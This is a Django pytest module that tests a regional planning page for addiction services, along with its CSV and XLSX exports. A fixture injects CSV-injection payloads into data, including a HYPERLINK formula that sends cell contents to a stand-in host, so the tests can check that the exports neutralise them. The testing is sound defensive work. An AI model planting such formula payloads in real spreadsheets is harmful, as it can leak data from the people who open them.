"""The planning pages and their exports."""

import csv
import io
from html.parser import HTMLParser

import pytest
from django.db import transaction
from django.urls import reverse
from django.utils import timezone
from django.utils.http import urlencode

from directory.models import Orp, VainSearch
from services.models import Term, Vocabulary
from tests.directory.planning.conftest import MON, THU, outreach, premises, remote
from tests.factories import ServiceAreaFactory, ServiceFactory, term


class TableParser(HTMLParser):
    """Texts of the cells of the table with a given id, row by row (header row first)."""

    def __init__(self, table_id):
        super().__init__()
        self.table_id = table_id
        self.depth = 0
        self.rows: list[list[str]] = []
        self.cell: list[str] | None = None
        self.hidden = 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and (self.depth or attrs.get("id") == self.table_id):
            self.depth += 1
        elif self.depth and tag == "tr":
            self.rows.append([])
        elif self.depth and tag in ("td", "th"):
            self.cell = []
        elif (
            self.cell is not None
            and tag == "span"
            and (attrs.get("aria-hidden") == "true" or "planning-note" in attrs.get("class", ""))
        ) or (self.hidden and tag == "span"):
            self.hidden += 1

    def handle_endtag(self, tag):
        if tag == "table" and self.depth:
            self.depth -= 1
        elif self.depth and tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append(" ".join("".join(self.cell).split()))
            self.cell = None
        elif self.hidden and tag == "span":
            self.hidden -= 1

    def handle_data(self, data):
        if self.cell is not None and not self.hidden:
            self.cell.append(data)


def table(response, table_id) -> list[list[str]]:
    parser = TableParser(table_id)
    parser.feed(response.content.decode())
    return parser.rows


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.fixture
def network(places):
    """A K-centrum in Jihlava, outreach in Humpolec (Thu) and Pelhřimov (Mon)."""
    premises(places.jihlava, types=["contact_centre", "harm_reduction"])
    street = outreach(places.humpolec, days=(THU,), types=["outreach", "harm_reduction"])
    outreach(places.pelhrimov, days=(MON,), service=street)
    return places


def region_url(places, **params):
    url = reverse("planning:region", args=[places.region.slug])
    return f"{url}?{urlencode(params)}" if params else url


def rendered(response) -> set[str]:
    return {template.name for template in response.templates}


def rows_by_orp(rows):
    return {row[0]: row[1:] for row in rows[1:]}


# ---- index ------------------------------------------------------------------------------


def test_index_lists_regions_with_headline_figures(en_client, network):
    premises(network.pelhrimov, types=["outpatient"], last_verified=None)

    response = en_client.get(reverse("planning:index"))

    assert response.status_code == 200
    regions = {row[0]: row[1:] for row in table(response, "regions-table")[1:]}
    assert regions["Kraj Vysočina"] == ["3", "none (of 3 ORPs)", "1 of 3 (33 %)"]
    assert regions["Jihočeský kraj"] == ["0", "1 of 1 ORP: Dačice", "–"]
    by_type = table(response, "region-types-table")
    contact_centre = by_type[0].index("Contact centre")
    assert {row[0]: row[contact_centre] for row in by_type[1:]} == {
        "Jihočeský kraj": "0",
        "Kraj Vysočina": "1",
    }
    assert f'href="{region_url(network)}"' in response.content.decode()


def test_index_refuses_post(client, db):
    assert client.post(reverse("planning:index")).status_code == 405


# ---- region page ------------------------------------------------------------------------


def test_region_page_shows_the_type_matrix_with_gaps(en_client, network):
    response = en_client.get(region_url(network))

    assert response.status_code == 200
    rows = table(response, "types-matrix")
    header = rows[0]
    assert header[:3] == ["ORP", "Contact centre", "Outreach programme"]
    assert header[-1] == "All services"
    humpolec = rows_by_orp(rows)["Humpolec"]
    assert humpolec[:3] == ["0 (gap)", "1", "1"]
    assert humpolec[-1] == "1"
    assert rows_by_orp(rows)["Jihlava"][:2] == ["1", "0 (gap)"]
    content = response.content.decode()
    assert 'class="planning-number planning-gap"' in content
    assert "1 on premises" in content


def test_region_page_answers_the_coordinators_question(en_client, network):
    response = en_client.get(region_url(network))

    highlights = response.context["highlights"]
    assert [orp.name for orp in highlights.outreach_without_fixed_centre] == [
        "Humpolec",
        "Pelhřimov",
    ]
    assert "Outreach but no fixed contact centre:</strong>\n      Humpolec, Pelhřimov" in (
        response.content.decode()
    )
    reach = rows_by_orp(table(response, "reach-table"))
    assert reach["Humpolec"] == ["1", "0", "1", "0", "no"]
    assert reach["Jihlava"] == ["1", "1", "0", "0", "yes"]


def test_region_page_shows_the_weekday_matrix(en_client, network):
    helpline = ServiceFactory(types=["counselling"])
    ServiceAreaFactory(service=helpline, region=network.region)
    remote(helpline, days=(THU,))

    response = en_client.get(region_url(network))

    rows = table(response, "weekdays-matrix")
    assert rows[0] == ["ORP", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
    gap = "0 (gap)"
    assert rows_by_orp(rows) == {
        "Humpolec": [gap, gap, gap, "2", gap, gap, gap],
        "Jihlava": ["1", "1", "1", "2", "1", gap, gap],
        "Pelhřimov": ["1", gap, gap, "1", gap, gap, gap],
    }


def test_cells_link_to_the_matching_search(client, network):
    street = network.humpolec.locations.get().services.get()
    street.target_groups.add(term(Vocabulary.TARGET_GROUP, "problem_drug_users"))
    response = client.get(region_url(network, target="problem_drug_users"))

    content = response.content.decode()
    search = reverse("services:search")
    assert (
        f'href="{search}?orp=humpolec&amp;type=outreach&amp;target=problem_drug_users"' in content
    )
    assert f'href="{search}?orp=humpolec&amp;day=thu&amp;target=problem_drug_users"' in content
    assert f'href="{search}?orp=jihlava&amp;target=problem_drug_users"' in content


def test_region_page_in_czech_by_default(client, network):
    response = client.get(region_url(network))

    assert response.status_code == 200
    assert table(response, "types-matrix")[0][1] == "Kontaktní centrum"


def test_toggles_narrow_the_matrix(en_client, network):
    family = premises(network.humpolec)
    family.target_groups.add(term(Vocabulary.TARGET_GROUP, "family"))

    response = en_client.get(region_url(network, target="family"))

    rows = table(response, "types-matrix")
    assert rows[0] == ["ORP", "Contact centre", "All services"]
    assert rows_by_orp(rows)["Humpolec"] == ["1", "1"]
    assert rows_by_orp(rows)["Jihlava"] == ["0 (gap)", "0"]
    assert "Parents and close ones" in response.content.decode()


def test_unknown_region_is_404(client, db):
    assert client.get(reverse("planning:region", args=["atlantis"])).status_code == 404
    assert client.get(reverse("planning:types_csv", args=["atlantis"])).status_code == 404
    assert client.get(reverse("planning:xlsx", args=["atlantis"])).status_code == 404


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"target": "martians"}, "Neznámá cílová skupina „martians“"),
        ({"substance": "x" * 5000}, "Neznámá látka nebo chování"),
    ],
)
def test_unknown_toggle_gives_a_message_and_the_whole_matrix(client, network, params, message):
    response = client.get(region_url(network, **params))

    assert response.status_code == 200
    assert message in response.content.decode()
    assert rows_by_orp(table(response, "types-matrix"))["Jihlava"][0] == "1"


def test_region_page_refuses_post(client, network):
    assert client.post(region_url(network)).status_code == 405
    assert client.post(reverse("planning:types_csv", args=[network.region.slug])).status_code == 405


def test_region_page_for_a_signed_in_professional_is_the_same(professional_client, network):
    response = professional_client.get(region_url(network))

    assert rows_by_orp(table(response, "types-matrix"))["Humpolec"][1] == "1"


def test_region_without_orps_says_so(en_client, places):
    empty = places.other_region.__class__.objects.create(
        csu_code="3999", nuts_code="CZ099", name="Prázdný kraj", slug="prazdny"
    )
    response = en_client.get(reverse("planning:region", args=[empty.slug]))

    assert response.status_code == 200
    assert "No ORPs of this region are loaded." in response.content.decode()


def test_pages_pass_a_strict_csp(client, network):
    for url in (reverse("planning:index"), region_url(network), region_url(network, print=1)):
        content = client.get(url).content.decode()
        assert "style=" not in content
        assert "<style" not in content
        assert "<script" not in content


def test_every_table_has_a_caption_and_scoped_headers(client, network):
    content = client.get(region_url(network)).content.decode()

    assert content.count("<table") == content.count("<caption") == 3
    assert "<th>" not in content


def test_chart_is_an_accessible_svg(en_client, network):
    content = en_client.get(region_url(network)).content.decode()

    assert 'role="img" aria-labelledby="chart-title chart-desc"' in content
    assert '<title id="chart-title">Services per ORP, by how they reach it</title>' in content
    assert content.count('<rect x="140') == 3  # one segment for each ORP with a service


def test_print_layout(en_client, network):
    response = en_client.get(region_url(network, print=1))

    content = response.content.decode()
    assert "planning/region_print.html" in rendered(response)
    assert 'class="site-header"' not in content
    assert "<form" not in content
    assert rows_by_orp(table(response, "types-matrix"))["Humpolec"][1] == "1"


# ---- exports ----------------------------------------------------------------------------


def test_types_csv_matches_the_page(en_client, network):
    page = table(en_client.get(region_url(network)), "types-matrix")
    response = en_client.get(reverse("planning:types_csv", args=[network.region.slug]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "vysocina-test-types.csv" in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0][:2] == ["ORP", "ORP code"]
    assert len(rows[0]) == 2 + 15 + 1  # every service type, then all services
    # The page shows the types available somewhere in the region, with the same numbers.
    kept = [rows[0].index(name) for name in page[0]]
    assert [[row[index] for index in kept] for row in rows[1:]] == [
        [cell.replace(" (gap)", "") for cell in row] for row in page[1:]
    ]
    assert rows[1][1] == network.humpolec_orp.csu_code


def test_types_available_nowhere_are_named_above_the_table(en_client, network):
    response = en_client.get(region_url(network))

    header = table(response, "types-matrix")[0]
    assert header == [
        "ORP",
        "Contact centre",
        "Outreach programme",
        "Harm reduction",
        "All services",
    ]
    content = response.content.decode()
    assert "Available nowhere in the region:" in content
    assert "Housing First" in content


def test_weekdays_csv_matches_the_page(en_client, network):
    page = table(en_client.get(region_url(network)), "weekdays-matrix")
    response = en_client.get(reverse("planning:weekdays_csv", args=[network.region.slug]))

    rows = read_csv(response)
    assert rows[0] == [
        "ORP",
        "ORP code",
        "Monday",
        "Tuesday",
        "Wednesday",
        "Thursday",
        "Friday",
        "Saturday",
        "Sunday",
    ]
    assert [[row[0], *row[2:]] for row in rows[1:]] == [
        [cell.replace(" (gap)", "") for cell in row] for row in page[1:]
    ]


def test_reach_csv_matches_the_page(en_client, network):
    page = table(en_client.get(region_url(network)), "reach-table")
    rows = read_csv(en_client.get(reverse("planning:reach_csv", args=[network.region.slug])))

    assert [[row[0], *row[2:]] for row in rows[1:]] == [
        [cell.replace("0 (gap)", "0") for cell in row] for row in page[1:]
    ]


def test_planning_csv_opens_in_czech_excel_like_the_search_csv(en_client, network):
    # Excel in a Czech locale splits on ";" (its decimal separator is ","); a BOM makes it UTF-8.
    response = en_client.get(reverse("planning:types_csv", args=[network.region.slug]))
    assert response.content.startswith("\ufeff".encode())
    first_line = response.content.decode("utf-8-sig").splitlines()[0]
    assert ";" in first_line and "," not in first_line


def test_csv_follows_the_toggles(client, network):
    url = reverse("planning:types_csv", args=[network.region.slug])
    response = client.get(f"{url}?target=family")

    assert "vysocina-test-types-family.csv" in response["Content-Disposition"]
    assert all(row[-1] == "0" for row in read_csv(response)[1:])


def test_xlsx_has_the_tables(en_client, network):
    from openpyxl import load_workbook

    response = en_client.get(reverse("planning:xlsx", args=[network.region.slug]))

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Services by type",
        "Services by weekday",
        "How services reach each ORP",
        "Free places",
        "Searches in vain",
    ]
    csv_rows = read_csv(en_client.get(reverse("planning:types_csv", args=[network.region.slug])))
    sheet_rows = [[str(value) for value in row] for row in workbook["Services by type"].values]
    assert sheet_rows == csv_rows


@pytest.fixture
def formulas(network):
    """ORP and service type names a spreadsheet would run as formulas."""
    Orp.objects.filter(pk=network.humpolec_orp.pk).update(name='=HYPERLINK("http://x/?"&A1,"K")')
    Orp.objects.filter(pk=network.jihlava_orp.pk).update(name="-2+3")
    Orp.objects.filter(pk=network.pelhrimov_orp.pk).update(name="\tx")
    Term.objects.filter(vocabulary=Vocabulary.SERVICE_TYPE, code="contact_centre").update(
        name_en="@SUM(A1)"
    )
    Term.objects.filter(vocabulary=Vocabulary.SERVICE_TYPE, code="outreach").update(name_en="+1")
    return network


ESCAPED_ORPS = ['\'=HYPERLINK("http://x/?"&A1,"K")', "'-2+3", "'\tx"]


def test_csv_cells_cannot_run_as_formulas(en_client, formulas):
    response = en_client.get(reverse("planning:types_csv", args=[formulas.region.slug]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response)
    assert rows[0][2:4] == ["'@SUM(A1)", "'+1"]
    assert sorted(row[0] for row in rows[1:]) == sorted(ESCAPED_ORPS)
    weekdays = read_csv(
        en_client.get(reverse("planning:weekdays_csv", args=[formulas.region.slug]))
    )
    reach = read_csv(en_client.get(reverse("planning:reach_csv", args=[formulas.region.slug])))
    for table_rows in (weekdays, reach):
        assert sorted(row[0] for row in table_rows[1:]) == sorted(ESCAPED_ORPS)


def test_xlsx_cells_cannot_run_as_formulas(en_client, formulas):
    from openpyxl import load_workbook

    VainSearch.objects.create(day=timezone.localdate(), orp=formulas.humpolec_orp, count=1)

    response = en_client.get(reverse("planning:xlsx", args=[formulas.region.slug]))

    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["Services by type"]
    [header, *rows] = sheet.values
    assert header[2:4] == ("'@SUM(A1)", "'+1")
    *coverage, vain = workbook.sheetnames
    for title in coverage:
        assert sorted(row[0] for row in list(workbook[title].values)[1:]) == sorted(ESCAPED_ORPS)
    [_header, vain_row] = workbook[vain].values
    assert vain_row[1] == ESCAPED_ORPS[0]
    for title in workbook.sheetnames:
        assert not [
            cell for row in workbook[title].iter_rows() for cell in row if cell.data_type == "f"
        ]
    assert all(isinstance(count, int) for row in rows for count in row[2:])


# ---- cache and query counts ---------------------------------------------------------------


def test_a_new_service_area_shows_at_once(en_client, network, django_capture_on_commit_callbacks):
    assert rows_by_orp(table(en_client.get(region_url(network)), "types-matrix"))["Pelhřimov"][
        0
    ] == ("0 (gap)")

    with django_capture_on_commit_callbacks(execute=True):
        ServiceAreaFactory(service=ServiceFactory(), orp=network.pelhrimov_orp)

    assert (
        rows_by_orp(table(en_client.get(region_url(network)), "types-matrix"))["Pelhřimov"][0]
        == "1"
    )


@pytest.mark.parametrize(
    ("query", "change", "before", "after"),
    [
        pytest.param("", lambda s: s.delete(), "1", "0", id="service deleted"),
        pytest.param("", lambda s: s.schedules.first().delete(), "1", "0", id="schedule deleted"),
        pytest.param("", lambda s: s.locations.first().delete(), "1", "0", id="location deleted"),
        pytest.param(
            "", lambda s: setattr(s, "status", "ended") or s.save(), "1", "0", id="service ended"
        ),
        pytest.param(
            "",
            lambda s: s.types.remove(term(Vocabulary.SERVICE_TYPE, "contact_centre")),
            "1",
            "0",
            id="type unlinked",
        ),
        pytest.param(
            "?target=family",
            lambda s: s.target_groups.add(term(Vocabulary.TARGET_GROUP, "family")),
            "0",
            "1",
            id="target group linked",
        ),
        pytest.param(
            "?substance=alcohol",
            lambda s: s.substances.add(term(Vocabulary.SUBSTANCE, "alcohol")),
            "0",
            "1",
            id="substance linked",
        ),
    ],
)
def test_cached_matrix_is_invalidated_by_a_change(
    client, places, query, change, before, after, django_capture_on_commit_callbacks
):
    service = premises(places.jihlava)
    url = reverse("planning:types_csv", args=[places.region.slug]) + query
    assert rows_by_orp(read_csv(client.get(url)))["Jihlava"][1] == before

    with django_capture_on_commit_callbacks(execute=True):
        change(service)

    assert rows_by_orp(read_csv(client.get(url)))["Jihlava"][1] == after


def test_cached_matrix_is_served_without_recomputing(client, network, django_assert_num_queries):
    client.get(region_url(network))

    # The region, the taxonomy terms for the toggles, and the searches in vain (never cached).
    with django_assert_num_queries(3):
        client.get(region_url(network))


def test_a_change_rolled_back_keeps_the_cached_matrix(
    client, network, django_assert_num_queries, django_capture_on_commit_callbacks
):
    client.get(region_url(network))
    with django_capture_on_commit_callbacks(execute=True):
        try:
            with transaction.atomic():
                ServiceAreaFactory(service=ServiceFactory(), orp=network.pelhrimov_orp)
                raise RuntimeError
        except RuntimeError:
            pass

    with django_assert_num_queries(3):
        client.get(region_url(network))


def test_cache_is_shared_by_languages_and_kept_per_toggles(
    client, network, settings, django_assert_num_queries
):
    client.get(region_url(network))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    with django_assert_num_queries(3):  # the counts do not depend on the language
        response = client.get(region_url(network))
    assert "By service type" in response.content.decode()
    with django_assert_num_queries(9):  # gather's six, with the capacities
        response = client.get(region_url(network, target="family"))
    assert response.context["toggles"].target == "family"


def test_tables_are_rendered_once_per_toggles_and_language(client, network, settings):
    first = client.get(region_url(network))
    again = client.get(region_url(network))
    assert "planning/_tables.html" in rendered(first)
    assert "planning/_tables.html" not in rendered(again)  # the stored HTML
    assert table(again, "types-matrix") == table(first, "types-matrix")
    assert "Podle typu služby" in again.content.decode()

    narrowed = client.get(region_url(network, target="family"))
    assert "planning/_tables.html" in rendered(narrowed)
    assert table(narrowed, "types-matrix") != table(first, "types-matrix")

    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = client.get(region_url(network))
    assert "planning/_tables.html" in rendered(english)
    assert "By service type" in english.content.decode()
    assert "Podle typu služby" not in english.content.decode()


@pytest.mark.parametrize("services", [1, 3])
def test_region_page_queries_do_not_grow(client, places, django_assert_num_queries, services):
    for number in range(services):
        service = premises([places.humpolec, places.jihlava, places.pelhrimov][number])
        outreach(places.kejzlice, service=service)
        ServiceAreaFactory(service=service, region=places.region)
        remote(service)
        service.target_groups.add(term(Vocabulary.TARGET_GROUP, "family"))

    # region, terms, then gather: ORPs, located sessions, areas, remote sessions, service facts,
    # capacities (issue 20); and the searches in vain
    with django_assert_num_queries(9):
        response = client.get(region_url(places, target="family"))
    assert response.context["highlights"].services == services


@pytest.mark.parametrize("services", [1, 3])
def test_index_queries_do_not_grow(client, places, django_assert_num_queries, services):
    for number in range(services):
        service = premises([places.humpolec, places.jihlava, places.dacice][number])
        ServiceAreaFactory(service=service, region=places.region)

    # regions, terms, then gather: ORPs, located sessions, areas, remote sessions, facts
    with django_assert_num_queries(7):
        client.get(reverse("planning:index"))
